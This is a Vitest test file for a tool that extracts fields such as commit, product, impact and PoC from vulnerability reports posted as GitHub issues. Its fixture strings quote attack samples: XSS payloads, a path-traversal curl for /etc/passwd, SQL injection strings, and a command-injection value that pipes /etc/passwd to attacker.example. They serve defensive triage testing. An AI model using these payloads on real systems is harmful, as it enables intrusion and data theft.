// Phrasings of vulnerability reports filed as GitHub issues (the fifth corpus batch) that
// the extractor misread: commits given as a "version" or as a link to the code, the product
// named only by a link or a test install's folder, screenshots and PoC repositories taken
// for places, and code execution named beside its cause. Each value is pinned as a triager
// would write it.
import { describe, expect, it } from 'vitest';
import { extractedFields } from '../../test/helpers/extracted-fields.js';

const fields = extractedFields;

describe('a tracker issue', () => {
  it('reads a tested "version" that is a commit as the commit, in full from its link, and no affected version', () => {
    const f = fields(
      'Tested version: [8c2c8909](https://github.com/totaljs/cms/commit/8c2c8909bf23a9daece47bd4fd9537ad52c03b0e) (latest)\n\nStored XSS in the site name.',
    );
    expect(f.commit).toBe('8c2c8909bf23a9daece47bd4fd9537ad52c03b0e');
    expect(f.affectedVersions).toBeUndefined();
  });

  it("reads the commit of the product's code it links, and the product, but not a write-up repository's commit", () => {
    const f = fields(
      'There is no path traversal check in [index.js](https://github.com/netptop/siteproxy/blob/2551e273761fd377bb5f7f00299e9a089399be57/index.js#L31).',
    );
    expect([f.commit, f.component]).toEqual(['2551e273761fd377bb5f7f00299e9a089399be57', 'siteproxy']);
    const ref = fields(
      'Heap overflow in the parser.\n\n- https://github.com/github/securitylab/tree/c8db365b3258df1c6fd12ff0f818115f46423e25/SecurityExploits/x\n',
    );
    expect(ref.commit).toBeUndefined();
  });

  it("names the product after the test install's folder unpacked from its archive", () => {
    expect(fields("CSRF to add an admin.\nreq.open('post','http://host/sftnow-master/index.php?g=Admin&m=User&a=add_post',true);").component).toBe('sftnow');
  });

  it("takes no memory checker for the product, but the project and commit a fuzzer's build folder is named for", () => {
    const subject = 'AddressSanitizer: heap-buffer-overflow at mjs.c:5481';
    expect(fields('Crashes with the attached input.', subject).component).toBeUndefined();
    const f = fields('POC:\nhttps://github.com/ntu-sec/pocs/blob/master/mjs-8d847f2/crashes/hbo_mjs.c%3A5481_1.js\n', subject);
    expect([f.component, f.commit]).toEqual(['mjs', '8d847f2']);
    expect(fields('See https://example.org/builds/radare2-18643/log.txt', subject).commit).toBeUndefined();
  });

  it("reads a package's lower-case hyphenated name before the flaw in a title", () => {
    expect(fields('Run the script as a user.', 'Ubuntu usb-creator local root via KVMTest').component).toBe('Ubuntu usb-creator');
  });

  it('takes no screenshot and no file of a PoC repository for a place in the product', () => {
    const f = fields(
      'poc: `curl http://10.0.0.5/index.php?p=../../etc/passwd`\n![image.png](https://s2.loli.net/2023/02/10/x7bRQ.png)\nPOC:\nhttps://github.com/ntu-sec/pocs/blob/master/mjs-8d847f2/crashes/hbo_mjs.c%3A5481_1.js\n',
    );
    expect(f.locations).toEqual(['http://10.0.0.5/index.php?p=../../etc/passwd']);
  });

  it('reads the impact of "possible to read any file", "will generate a superuser account" and "the payload will fire"', () => {
    expect(fields("No check in index.js when sending local files, so it's possible to read any file by path traversal.").impact).toBe(
      "No check in index.js when sending local files, so it's possible to read any file by path traversal.",
    );
    expect(fields('POC is following code which clicked by admin will generate a superuser account called "naive".').impact).toBeDefined();
    expect(fields('Each time a target will visit the dashboard the payload will fire, even if the target is not logged in!').impact).toBeDefined();
    expect(fields('It is possible to read the changelog online.').impact).toBeUndefined();
  });

  it('types code execution by its cause when the title names both', () => {
    expect(fields('Upload any file.', 'Remote Code Execution (File Upload)').vulnType).toBe('unrestricted file upload');
    expect(fields('Send the payload.', 'Remote code execution via SQL injection in search').vulnType).toBe('sql injection');
    expect(fields('Send the payload.', 'Remote code execution in the updater').vulnType).toBe('remote code execution');
  });
});

describe('a report of several issues', () => {
  it('is titled by the Subject that says so, not by the heading of its first issue', () => {
    const text =
      '>> Technical details:\n\n#1\nVulnerability: Remote code execution via file upload (unauthenticated\non OpManager and Social IT)\nCVE-2014-7866\n';
    const subject = 'Multiple vulnerabilities in ManageEngine OpManager, Social IT Plus and IT360';
    expect(fields(text, subject).title).toBe(subject);
    expect(fields(text, 'ManageEngine OpManager file upload').title).not.toBe('ManageEngine OpManager file upload');
  });
});

// Misreadings a review of the rules above found (each failed before its fix).
describe('what the tracker rules must not take', () => {
  it('takes no product or commit from a name-hex folder outside a PoC repository, nor a payload list linked on a branch', () => {
    const f = fields('Stored XSS: read the avatar at https://acme.com/uploads/avatar-5f3e2a1b/me.png after upload.');
    expect([f.component, f.commit]).toEqual([undefined, undefined]);
    expect(fields('Payloads from https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/XSS/README.md work.').component).toBeUndefined();
  });

  it("keeps endpoints that only start like a reporter's file, and a firm's site when a team is credited", () => {
    expect(fields('SSRF in POST /admin/testConnection, saved by /admin/settings.php').locations).toEqual(['/admin/testConnection', '/admin/settings.php']);
    const firm = fields('Credits: Acme Security Team\n\nXSS at https://security.acme.com/login.php?next=%2F%2Fevil.example');
    expect(firm.locations).toEqual(['https://security.acme.com/login.php?next=%2F%2Fevil.example']);
  });

  it("reads a full name that ends in a letter \\b does not know, and keeps a reply's Subject out of the title", () => {
    expect(fields("# Exploit Author: LiquidWorm\nRCE.\n\nVulnerability discovered by Gjoko 'LiquidWorm' Krstić").credit).toEqual({
      kind: 'name',
      name: "Gjoko 'LiquidWorm' Krstić",
    });
    expect(fields('Title: SQL injection in search.php\n\nSend a quote.', 'Re: two more issues').title).toBe('SQL injection in search.php');
  });

  it('takes no qualifier or month for a product, and no team before "aka" for a name', () => {
    expect(fields('Send the request.', 'Acme Portal one-click remote code execution').component).toBe('Acme Portal');
    expect(fields('I found a bug in March while testing the login.').component).toBeUndefined();
    expect(fields('Credits: the red team aka r3d\n\nXSS in search.').credit).not.toEqual({ kind: 'name', name: 'the red team' });
  });
});

describe("a tracker issue's prose", () => {
  it('takes no title for steps, nor a leading phrase whose capitalised word only looks like a verb', () => {
    expect(fields('Open Redirect vulnerability in login endpoint\n\nThe next parameter is not checked.').steps).toBeUndefined();
    expect(fields('Copy of Server-Side Request Forgery (SSRF) in Request Data module\n\nThe module fetches any URL.').steps).toBeUndefined();
    expect(fields('In a Server Side Request Forgery (SSRF) attack, the attacker abuses the server.').steps).toBeUndefined();
    expect(fields('Into BurpSuite add the following extra Header Referer.').steps).toBe('Into BurpSuite add the following extra Header Referer.');
  });

  it('reads "the source code is public" as nothing about the report, a gist as no place, and a path as no product name', () => {
    expect(fields('The risk is heightened by the fact that the source code is public and requests can be read from it.').public).toBeUndefined();
    expect(fields('This is already public on the vendor forum.').public).toBe(true);
    expect(fields('POC: https://gist.github.com/Mah1ndra/836db6e92d6807752d9c2550de7bd13c').locations).toBeUndefined();
    expect(fields('There is an unsafe call to unserialize() in `app/Ninja/Repositories/AccountRepository.php`.').component).toBeUndefined();
  });
});

describe("a Subject's product", () => {
  it('is read last, when it is a name after the flaw, not a common word or a protocol', () => {
    expect(fields('Details below.', 'Path traversal vulnerability in Apache Tomcat').component).toBe('Apache Tomcat');
    expect(fields('Details below.', 'Security issue in nginx-ui').component).toBe('nginx-ui');
    expect(fields('Details below.', 'XSS in search page').component).toBeUndefined();
    expect(fields('Details below.', 'Path traversal on VPN gateway, unauthenticated').component).toBeUndefined();
    expect(fields('A bug in the Widget Pro export module lets anyone read files.', 'XSS in Acme CMS').component).not.toBe('Acme CMS');
  });

  it('names a package by its registry, and takes a lower-case library or script name from the Subject, but not a feature word', () => {
    expect(fields('While testing acme-portal (npm package) I found a prototype pollution in merge().').component).toBe('acme-portal');
    expect(fields('The npm package deep-merge-lite lets __proto__ keys through.').component).toBe('deep-merge-lite');
    expect(fields('A heap overflow in foo_parse() when reading crafted files.', 'Heap overflow in libfoo').component).toBe('libfoo');
    expect(fields('Crafted input crashes the parser.', 'ReDoS in moment.js').component).toBe('moment.js');
    expect(fields('Details below.', 'XSS in search').component).toBeUndefined();
    expect(fields('Details below.', 'Heap overflow in library').component).toBeUndefined();
    expect(fields('Install it with the npm package manager, then call merge() with __proto__ keys.').component).not.toBe('manager');
    expect(fields('The Java library (maven) deserializes untrusted input.').component).not.toBe('library');
  });
});

// The tenth corpus batch: short issues in a bug template, written quickly.
describe('a short tracker issue', () => {
  it('takes what the XSS lets the reporter steal as its impact, misspelt or not', () => {
    const text = '1. Go to Members -> Edit\n2. Set the name to a script tag\n\nIt allow us using Stored Xss. Which would allow us stoling visitors cookies.';
    expect(fields(text, 'Stored XSS in the admin page').impact).toBe('Which would allow us stoling visitors cookies.');
    expect(fields('2. Set the name to a script tag.\n\nThe session cookie is stored in the browser.', 'Stored XSS').impact).toBeUndefined();
  });

  it('takes markup written into a numbered step as the PoC, but not markup a sentence describes or elides', () => {
    const step = fields('1. Go to Members -> Edit any\n2. Set the user name to <script>alert("XSS");</script>\n3. Then save', 'Stored XSS');
    expect(step.poc).toBe('<script>alert("XSS");</script>');
    expect(fields('2. Set the bio to "><img src=x onerror=alert(document.domain)> and save.', 'Stored XSS').poc).toBe(
      '"><img src=x onerror=alert(document.domain)>',
    );
    expect(fields('Album descriptions accept <img src=x onerror=alert(1)> and render it to every visitor.', 'Stored XSS').poc).toBeUndefined();
    expect(fields('1. Set the name to <svg onload=...> and save.', 'Stored XSS').poc).toBeUndefined();
  });

  it('types a report titled only "Remote code execution" by the cause its first sentences give', () => {
    const text = 'Here the upload file parameter is vulnerable to remote code execution vulnerability.\nScreenshots attached.';
    expect(fields(text, 'Remote code execution vulnerability').vulnType).toBe('unrestricted file upload');
    expect(fields('The template name reaches eval(), which is remote code execution.', 'Remote code execution vulnerability').vulnType).toBe(
      'remote code execution',
    );
  });
});

// The eleventh corpus batch: issues that box their prose in code fences, attach a video, wish for a fix.
describe('an issue written loosely', () => {
  it('takes no fenced box of plain sentences for the PoC, but still a short command', () => {
    const boxed = fields(
      '```\nSummary:\n\nAcme is vulnerable to a Use-After-Free condition.\n```\n\n```\nExecution Process:\n\nStatic review\n```',
      'Use-After-Free',
    );
    expect(boxed.poc).toBeUndefined();
    expect(fields('Run it:\n\n```\nmake check\n```', 'Crash in the parser').poc).toBe('make check');
  });

  it('takes the sentence that attaches a video as the PoC, and a wish for checks as the mitigation', () => {
    const f = fields(
      "Any user can delete the task of another user by changing the id. I think the restrictions should be in place for this to avoid it.\n\nI am attaching a poc which shows how to delete another user's list item\n\nhttps://user-images.example.com/1.mp4",
      'IDOR in delete functionality',
    );
    expect(f.poc).toBe("I am attaching a poc which shows how to delete another user's list item");
    expect(f.mitigation).toBe('I think the restrictions should be in place for this to avoid it.');
  });
});

// The fourteenth corpus batch: an issue titled by what it is, a DoS named after "resulting in", a service on a port.
describe('an issue titled and worded generically', () => {
  it('takes no "Security Vulnerability" for the product, but the application the text names', () => {
    const text = 'The security team discovered the keymaster application exposed an administrative interface that did not require authentication.';
    expect(fields(text, 'Security Vulnerability - Missing Authentication').component).toBe('keymaster');
  });

  it('takes no class of flaw for the product ("resulting in denial of service")', () => {
    expect(fields('An unauthenticated frame can crash the process, resulting in denial of service.', 'Crash in the decoder').component).toBeUndefined();
  });

  it("keeps a test host's root on a port of its own as the place, not a vendor's front page", () => {
    const f = fields('It exposed an administrative interface at https://keymaster.example.com:6920/ that did not require authentication.');
    expect(f.locations).toEqual(['https://keymaster.example.com:6920/']);
    expect(fields('See https://www.acme.com/ for the product.').locations).toBeUndefined();
  });
});

// The fifteenth corpus batch: a machine-translated issue.
describe('a machine-translated issue', () => {
  it('takes no function word before a version for the product ("After installing xino-pro4 After 1.2")', () => {
    expect(
      fields('After installing xino-pro4 After 1.2, there is a storage XSS in the background setting.', 'Website background XSS').component,
    ).toBeUndefined();
    expect(fields('We tested Acme Forum 1.2 and found a storage XSS in the background setting.', 'Website background XSS').component).toBe('Acme Forum');
  });
});

// The sixteenth corpus batch: plural classes, a script named as vulnerable, a static analyser's findings.
describe('an issue that names its flaw in the plural or as a checker does', () => {
  it('types "two SQL injections" and a null pointer dereference (CWE-476)', () => {
    expect(fields('The file login.php is vulnerable to two SQL injections.', 'SQL vulnerability').vulnType).toBe('sql injection');
    expect(fields('A NULL pointer dereference happens in strip_expr().', 'issue about null pointer dereference').vulnType).toBe('null pointer dereference');
  });

  it('takes the script the report calls vulnerable for the place', () => {
    expect(fields('The file login.php is vulnerable to two SQL injections.', 'SQL vulnerability').locations).toEqual(['login.php']);
    expect(fields('I found that search.php is vulnerable to XSS.').locations).toEqual(['search.php']);
    expect(fields('Upload shell.php and open it.').locations).toBeUndefined();
  });

  it("takes no file a payload's command reads for a place", () => {
    const text = 'The tool could pass `eth0; curl attacker.example/x?data=$(cat /etc/passwd)` as the interface parameter.';
    expect(fields(text).locations).toBeUndefined();
  });

  it('takes no list of how a flaw happens, nor the title line, for steps', () => {
    const text =
      'issue about null pointer dereference\n\nHow the NULL Pointer Dereference happens:\n1. When the `last_stmt` is Null\n2. NULL dereference of variable `last_stmt->label` happens\n';
    expect(fields(text, 'issue about null pointer dereference').steps).toBeUndefined();
  });
});

// The nineteenth corpus batch: an open redirect reported step by step, a SQL injection "tried" in a search box.
describe('an open redirect reported step by step', () => {
  it('takes the URL of the step as the PoC and where it sends the user as the impact', () => {
    const text = [
      'Reproduction of the vulnerability',
      '',
      '1. Navigate to http://news.example/redir?choice=//google.com',
      "2. Notice that you're being redirected to https://www.google.com",
      '',
      "Whatever value the 'choice' parameter contains is passed to redirect(), thus redirecting the user to an arbitrary external domain.",
    ].join('\n');
    const f = fields(text, 'Open Redirect Vulnerability - /redir?choice=');
    expect(f.poc).toBe('http://news.example/redir?choice=//google.com');
    expect(f.impact).toMatch(/redirecting the user to an arbitrary external domain/);
    expect(fields('1. Navigate to http://news.example/news?page=2\n2. Read the list.', 'Bug').poc).toBeUndefined();
  });
});

describe("an issue template's headings", () => {
  it('takes no "Issue Summary" heading for the title', () => {
    const text =
      '### Issue Summary\nIn the latest version there is a stored XSS at `/recon_note/list_note`.\n\n### Steps to Reproduce\n\n1. Visit `/recon_note/list_note`.';
    expect(fields(text, '[SECURITY] - Stored XSS in the notes').title).not.toBe('Issue Summary');
  });
});

// The twenty-first corpus batch: issue templates' headings, identifiers for products, links to help sites.
describe('an issue filled into a template', () => {
  it('takes no "Steps:-", "Example:-" or "<Product> Version" heading for the title', () => {
    expect(fields('### Steps:-\n\n1. Open the page.\n2. Type a name.', 'Reflected XSS in prefix').title).not.toBe('Steps:-');
    expect(fields('### QwenPaw Version\n\n1.0.2\n\n### Describe the bug\n\nA plugin upload runs code.', 'Plugin upload leads to RCE').title).not.toBe(
      'QwenPaw Version',
    );
  });

  it('takes no CVE id and no clause for the product', () => {
    expect(fields('Details below.', 'CVE-2018-7265 - Stored XSS vulnerability resulting from uploaded SVG files').component).toBeUndefined();
    expect(fields('It depends on the parser being offered by the platform if the parser is by default not hardened.').component).not.toBe(
      'platform if the parser',
    );
  });

  it('takes no help-site answer, paste, issue attachment, system header or runtime socket for a place', () => {
    const text = [
      'See http://stackoverflow.com/a/154090/3191 and the payload at https://ghostbin.com/paste/xkj2o.',
      'Video: https://github.com/user-attachments/assets/54418444-9867-4534-8d69-0c9416a79f15',
      '#include <windows.h> in the PoC, talking to /var/run/samba/winbindd/pipe; the bug is in winbindd_lookupsids.c.',
    ].join('\n');
    expect(fields(text).locations).toEqual(['winbindd_lookupsids.c']);
  });
});

describe("an issue template's leftovers", () => {
  it('takes no placeholder left in a fence ("(paste logs here)") for the PoC', () => {
    expect(fields('### Logs\n\n```\n(paste logs here)\n```\n', 'Plugin upload leads to RCE').poc).toBeUndefined();
    expect(fields('### Logs\n\n```\nnode poc.js --paste here\n```\n', 'Plugin upload leads to RCE').poc).toBe('node poc.js --paste here');
  });
});

describe('headings written with a colon and a dash', () => {
  it('reads "## Steps:-" and "## Fix:-" as the steps and the fix', () => {
    const text =
      '## Steps:-\n1-Got this Url: `https://acme.example/?prefix=`\n2-Add Payload XSS In Parameter `prefix`\n\n## Fix:-\nDelete the reflect for prefix parameter\nEncode data on output\n';
    const f = fields(text, 'Found Reflected XSS On your Site');
    expect(f.steps).toMatch(/^1-Got this Url/);
    expect(f.mitigation).toMatch(/^Delete the reflect for prefix parameter/);
  });

  it('reads a step written on a line of its own without a full stop, even right above a code fence', () => {
    const text =
      'There is a CSRF vulnerability to add an administrator account\nAfter the administrator logged in, open the following page\n**poc**\n```\n<html><body><form action="http://host/cm/update_rows/user"></form></body></html>\n```\n';
    expect(fields(text).steps).toBe('After the administrator logged in, open the following page');
    const shot = 'Stored XSS in the footer\nModify the powered by text to <script>alert(1)</script>\n![image](https://example.org/shot.png)\n';
    expect(fields(shot).steps).toBe('Modify the powered by text to <script>alert(1)</script>');
  });

  it("takes no step from a hard-wrapped mail's next line, a pasted query or a template's placeholder", () => {
    expect(fields('The server crashes. To see it you need to\nopen the attached file in the viewer\nand wait.').steps).toBeUndefined();
    expect(fields('Blind SQL injection in the forum.\nSELECT tid, topic_subject FROM wp_symposium_topics WHERE tid = 1').steps).toBeUndefined();
    expect(fields('Open redirect in the sanitiser.\nselect sink, source, sink, "Bad redirect check"').steps).toBeUndefined();
    expect(fields('Path traversal in the theme loader.\n\nAdd any other context about the problem here.').steps).toBeUndefined();
  });

  it('reads numbered steps marked "1.Product" (no space), "2、" or "Step (1):", but no version at the start of a line', () => {
    const tight = fields(
      'Stored XSS in the comment edit.\n\nThe vulnerability step is:\n1.Product->Overview\n2.Capture packets when you edit comment.\n3.Change value of "lastComment" into <img src=1 onerror=alert(1)>\n',
    );
    expect(tight.steps).toMatch(/^1\.Product->Overview\n2\.Capture packets[^\n]*\n3\.Change value of "lastComment"/);
    const marked = fields('Access bypass.\n\nStep (1): Launch the BurpSuite and request the URL:\nStep (2): Into BurpSuite add the extra Header Referer:\n');
    expect(marked.steps).toBe('Step (1): Launch the BurpSuite and request the URL:\nStep (2): Into BurpSuite add the extra Header Referer:');
    expect(fields('Denial of service in the parser.\n\n2.x branch is affected\n3.x branch is not\n').steps).toBeUndefined();
  });

  it('takes a script the title puts the flaw in for a place, not for the product, and the title line for no step', () => {
    const subject = 'Host Header Injection in password-controller.js';
    const f = fields(`${subject}\n\n- An attacker can inject a malicious host header into the password reset url.\n`, subject);
    expect(f.component).toBeUndefined();
    expect(f.steps).toBeUndefined();
    expect(f.locations).toEqual(['password-controller.js']);
    expect(fields('Prototype pollution was found.', 'Prototype pollution in Node.js').component).toBe('Node.js');
  });

  it('reads "this should be fixed by …" as the mitigation', () => {
    const f = fields('LFI in the page parameter.\n\nI think this should be fixed by defining a page whitelist before including the file.');
    expect(f.mitigation).toBe('I think this should be fixed by defining a page whitelist before including the file.');
    expect(fields('LFI in the page parameter.\n\nIt was fixed by the vendor last week.').mitigation).toBeUndefined();
  });

  it('reads whom a flaw lets do what ("allows every registed user to download …", "he is able to connect as any user") as the impact', () => {
    expect(fields('I found this bug in a fork. It allows every registed user to download any file at the webserver root.').impact).toBe(
      'It allows every registed user to download any file at the webserver root.',
    );
    expect(fields("If the user submits the login a' OR '1'='1 , he is able to connect as any user who uses a given password").impact).toMatch(
      /he is able to connect as any user/,
    );
  });

  it('names the product after "issues in", and not a phrase with a relative clause', () => {
    const text =
      'Hey,\nThere are numerous Open Redirect issues in Acmeboard.\n\nTo mitigate this issue Acmeboard should check that the URL belongs to the same domain where application is running.';
    expect(fields(text, 'Open redirect issues').component).toBe('Acmeboard');
  });

  it('types an "arbitrary file reading" the report names no class for as a path traversal', () => {
    expect(fields('The problem exists in the page editor.', 'There is a Arbitrary file reading in the backend').vulnType).toBe('path traversal');
  });

  it('takes no impact from what the writer shows the reader or sends them to read', () => {
    expect(fields('You can see that there is no filtering in the code.').impact).toBeUndefined();
    expect(fields('You can read more about Open Redirects here:\nhttps://owasp.example/redirects').impact).toBeUndefined();
    expect(fields('You can read any file on the server with it.').impact).toBe('You can read any file on the server with it.');
  });

  it('reads a "Malformed Request:" label as the PoC it shows', () => {
    const text =
      'CSRF at Admin Email\n\nMalformed Request:\nhttp://10.0.0.6/app/profile.php?action=update&name=email&value=attacker@abc.example\n\n**Expected behavior**\nUse tokens.';
    expect(fields(text).poc).toBe('http://10.0.0.6/app/profile.php?action=update&name=email&value=attacker@abc.example');
  });

  it('reads "can lead to admin email change" as the impact', () => {
    expect(fields('A malformed GET request at /app/profile.php can lead to admin email change.').impact).toBe(
      'A malformed GET request at /app/profile.php can lead to admin email change.',
    );
  });

  it('types default passwords a product ships with as hardcoded credentials, but not a default password policy', () => {
    expect(fields('The config file has default insecure passwords set.', 'Default passwords used in Acme config/default.json').vulnType).toBe(
      'hardcoded credentials',
    );
    expect(fields('The default password length is 8.', 'Password policy').vulnType).toBeUndefined();
  });

  it("reads an XSS's reach, script run in the browser of anyone who views the page, as the impact", () => {
    const text = 'The display name field takes HTML.\n\nThis code is then run in the browser of anyone who views the profile.';
    expect(fields(text).impact).toBe('This code is then run in the browser of anyone who views the profile.');
  });
});

// The thirty-sixth and thirty-seventh batches: a deletion through a path, a release under a
// "branch" heading, a workflow's branch setting, the browser a report was tested in.
describe('a tracker template and an advisory with a pasted workflow', () => {
  it('reads an "arbitrary file deletion" as a traversal when the report names no class', () => {
    expect(fields('Delete any file: GET /admin/backup?file=a.zip/../../../windows/win.ini', 'arbitrary file deletion vulnerability in backup').vulnType).toBe(
      'path traversal',
    );
    expect(fields('Crafted XML deletes files.', 'Arbitrary file deletion via XXE in Acme').vulnType).toBe('xml external entity');
  });

  it('takes no release under a "branch" heading and no branch set in pasted YAML for the branch, but a branch named in prose', () => {
    expect(fields('## ImpressCMS branch :\n1.3.11\n## Steps To Reproduce:\nVisit /userinfo.php?uid=1').branch).toBeUndefined();
    expect(fields('The workflow deploys the docs:\n```yaml\n  with:\n    branch: gh-pages\n```\n').branch).toBeUndefined();
    expect(fields('The flaw is on the develop branch since last week.').branch).toBe('develop');
  });

  it('takes no browser a report was verified in for the component', () => {
    expect(fields('## Browsers Verified In:\n\nChrome Version 95.0.4638.69\n\nA regular user reads any profile.').component).toBeUndefined();
  });
});
